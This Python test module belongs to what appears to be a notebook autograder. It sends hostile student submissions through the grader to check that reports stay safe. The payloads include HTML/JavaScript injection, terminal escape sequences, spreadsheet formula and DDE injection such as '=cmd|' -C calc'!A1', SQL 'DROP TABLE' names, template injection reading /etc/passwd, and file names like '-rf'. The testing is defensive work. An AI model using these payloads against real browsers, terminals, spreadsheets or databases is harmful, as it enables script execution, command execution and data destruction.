"""Harm to readers: the student's page in a browser, the instructor's terminal, spreadsheet and disk."""

import json
import os

from tests.attacks import HONEST, NOTHING, Catalogue, answered, submission

attacks = Catalogue()
TEXT = "feedback: what a student wrote is shown as text"
TERMINAL = "feedback: no control character and no markup of a student reaches a terminal"
TABLE = "feedback: no cell of a table begins like a formula"
MARKUP = """<script>document.title='hacked'</script><img src=x onerror="document.title='hacked'"><svg onload=alert(1)>\
</div></pre></code></body><style>*{display:none}</style><iframe src="javascript:alert(1)"></iframe>\
<base href="http://192.0.2.1/"><meta http-equiv="refresh" content="0;url=http://192.0.2.1/"><form action="x">"""
ANSI = "\x1b[2J\x1b[31mhacked\x1b]0;hacked\x07\x1b]8;;http://192.0.2.1/\x1b\\here\x1b]8;;\x1b\\\r\x08\x9b31m"
FORMULA = '=HYPERLINK("http://192.0.2.1/"&A1,"here")'


def solved(notebook: dict, **sources: str) -> dict:
    return answered(notebook, **HONEST | sources)


def raising(text: str) -> str:
    return f"def double(x):\n    raise ValueError({text!r})\n"


def returning(text: str) -> str:
    return f"def double(x):\n    return {text!r}\n"


# ----------------------------------------------------------------------------------------------------------- browser


@attacks.cells(tries="Writes HTML and scripts into its answers.", stops=TEXT, earns={})
def markup_in_sources(traps):
    return {name: f"# {MARKUP}\n{source}\nTEXT = {MARKUP!r}\n" for name, source in HONEST.items()}


@attacks.cells(tries="Returns HTML and scripts, which the report quotes.", stops=TEXT, earns={"double": 0.0})
def markup_in_answers(traps):
    return {"double": returning(MARKUP)}


@attacks.cells(tries="Raises exceptions of HTML and scripts: text, line and name.", stops=TEXT, earns=NOTHING)
def markup_in_exceptions(traps):
    return {
        "double": raising(MARKUP),
        "ask": f"def ask(f, n):\n    raise type({MARKUP!r}, (Exception,), {{}})\n",
        "Counter": f"raise ValueError({MARKUP!r})\n",
    }


@attacks.notebook(tries="Brings outputs of HTML, scripts, SVG, Markdown and widgets.", stops=TEXT, earns={})
def markup_in_outputs(notebook):
    notebook = solved(notebook)
    types = ("text/html", "image/svg+xml", "text/markdown", "text/latex", "application/javascript", "application/pdf",
             "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid", "text/plain", "image/png")  # fmt: skip
    outputs = [
        {"output_type": "display_data", "metadata": {MARKUP: MARKUP}, "data": dict.fromkeys(types, MARKUP)},
        {"output_type": "execute_result", "metadata": {}, "data": {"image/svg+xml": "<svg onload='alert(1)'/>"}},
        {"output_type": "stream", "name": MARKUP, "text": MARKUP},
        {"output_type": "stream", "name": "stderr", "text": [MARKUP, MARKUP]},
        {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP, f"\x1b[31m{MARKUP}\x1b[0m"]},
    ]
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = outputs
    return notebook


@attacks.notebook(tries="Brings pictures that are something else.", stops="rebuild: a picture is base64", earns={})
def pictures_that_are_none(notebook):
    notebook = solved(notebook)
    odd = ["", "PHNjcmlwdD4=", '" onerror="alert(1)', "data:text/html,<script>alert(1)</script>", "!" * 100, ["a", "b"]]
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [
                {"output_type": "display_data", "metadata": {}, "data": {mime: text}}
                for mime in ("image/png", "image/jpeg", 'image/png" onerror="alert(1)')
                for text in odd
            ]
    return notebook


@attacks.notebook(tries="Writes HTML, Markdown and links into cells of its own and the lesson's.", stops=TEXT, earns={})
def markup_in_texts(notebook):
    notebook = solved(notebook)
    links = f"{MARKUP}\n\n[here](javascript:alert(1)) ![](http://192.0.2.1/x.png) <http://192.0.2.1/>\n\n$$\\href{{x}}{{y}}$$"
    for one in notebook["cells"]:
        if one["cell_type"] == "markdown":
            one["source"] = links
    notebook["cells"].insert(0, {"cell_type": "markdown", "id": "x", "metadata": {}, "source": links})
    notebook["metadata"]["title"] = MARKUP
    return notebook


@attacks.cells(
    tries="Writes formulas that a page would compute: MathJax, templates.", stops=TEXT, earns={"double": 0.0}
)
def formulas_of_pages(traps):
    text = r"$$\href{javascript:alert(1)}{x}$$ \(\unicode{60}\) {{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} %s {0}"
    return {"double": returning(text), "ask": f"# {text}\n{HONEST['ask']}"}


@attacks.cells(
    tries="Writes letters that look like others, reverse lines, and are drawn on top of each other.",
    stops=TEXT,
    earns={"double": 0.0},
)
def odd_letters(traps):
    text = "\u202e\u2066stniop 5 fo 5\u2069 " + "e" + "\u0301" * 2000 + "\u200b\ufeff\u2028\u0000\x7f"
    return {"double": returning(text)}


@attacks.cells(tries="Writes one line of a megabyte.", stops="feedback: a page has a size", earns={})
def endless_line(traps):
    return {"double": HONEST["double"] + "#" + "<b>" * 300_000}


# ------------------------------------------------------------------------------- the instructor's terminal and table


@attacks.cells(tries="Writes control characters of terminals into the report.", stops=TERMINAL, earns=NOTHING)
def ansi_in_reports(traps):
    return {
        "double": returning(ANSI),
        "ask": f"def ask(f, n):\n    raise ValueError({ANSI!r})\n",
        "Counter": f"raise type({ANSI!r}, (Exception,), {{}})({ANSI!r})\n",
    }


@attacks.cells(tries="Writes the command line's own markup into the report.", stops=TERMINAL, earns={"double": 0.0})
def rich_markup_in_reports(traps):
    return {"double": raising("[/] [bold green]5/5[/] [link=http://192.0.2.1/]here[/link] [@click=app.quit]x[/] \\[")}


@attacks.cells(tries="Writes formulas of spreadsheets into the report.", stops=TABLE, earns=NOTHING)
def formulas_in_reports(traps):
    return {
        "double": f"def double(x):\n    raise type({FORMULA!r}, (Exception,), {{}})({FORMULA!r})\n",
        "ask": f"def ask(f, n):\n    raise ValueError({FORMULA!r})\n",
        "Counter": f"raise ValueError('\\t' + {FORMULA!r} + '\\n' + {FORMULA!r})\n",
    }


def named(name: str, student: str, tries: str, stops: str) -> None:
    """Add a student with an odd name and right answers, whose folder the instructor has."""

    def hand_in(folder, release, traps):
        submission(folder).write_text(json.dumps(solved(release)))

    hand_in.__name__ = name
    attacks.folder(tries=tries, stops=stops, earns={}, student=student)(hand_in)


named("markup_for_a_name", '<img src=x onerror="document.title=1">', "Is called HTML.", TEXT)
named("script_for_a_name", "<script>document.title='hacked'<\\script>", "Is called a script.", TEXT)
named("formula_for_a_name", "=cmd|' -C calc'!A1", "Is called like a formula of a spreadsheet.", TABLE)
named("option_for_a_name", "--regrade", "Is called like an option.", "gradebook: a name is a name")
named("pattern_for_a_name", "[a-z]*", "Is called like a pattern of names.", "gradebook: a name is a name")
named(
    "sql_for_a_name", "x'; DROP TABLE grade; --", "Is called like a command to the gradebook.", "gradebook: it is data"
)
named("ansi_for_a_name", "\x1b[31mada\x1b]0;hacked\x07", "Is called like a terminal's command.", TERMINAL)
named("rich_markup_for_a_name", "[bold]ada[b]", "Is called like the command line's markup.", TERMINAL)
named("lines_for_a_name", "ada\nbob,99,99", "Is called like two lines of a table.", TABLE)
named("template_for_a_name", "{{ 7 * 7 }}{student_id}%s${HOME}~", "Is called like a template.", TEXT)


@attacks.folder(
    tries="Brings files beside its notebook, named as HTML, options and commands of terminals.",
    stops=TERMINAL,
    earns={},
)
def odd_files(folder, release, traps):
    submission(folder).write_text(json.dumps(solved(release)))
    for name in (MARKUP.replace("/", "|")[:200], "-rf", FORMULA.replace("/", "|"), ANSI.replace("/", "|"), "a\nb"):
        (folder / name).write_text(MARKUP)


@attacks.folder(
    tries="Hands in its notebook under a name of HTML and commands of terminals.",
    stops=TERMINAL,
    earns=None,
)
def odd_file_name(folder, release, traps):
    (folder / f"{ANSI.replace('/', '|')}[bold]{MARKUP.replace('/', '|')[:50]}.ipynb").write_text(
        json.dumps(solved(release))
    )


@attacks.folder(
    tries="Brings work on a lesson that does not exist, named with terminal commands.", stops=TERMINAL, earns={}
)
def odd_lesson(folder, release, traps):
    submission(folder).write_text(json.dumps(solved(release)))
    (folder.parent / f"{ANSI.replace('/', '|')}[bold]").mkdir()


@attacks.folder(tries="Has a name that is not text.", stops="intake: it is refused with a message", earns=None,
                student=os.fsdecode(b"ada\xff\xfe"))  # fmt: skip
def bytes_for_a_name(folder, release, traps):
    submission(folder).write_text(json.dumps(solved(release)))


@attacks.cells(
    tries="Answers with half a character, which no file can hold.",
    stops="judge: it becomes a question mark",
    earns=NOTHING,
)
def half_a_character_in_reports(traps):
    return {
        "double": "def double(x):\n    return '\\ud800'\n",
        "ask": "def ask(f, n):\n    raise ValueError('\\ud800')\n",
        "Counter": "raise ValueError('\\ud800')\n",
    }
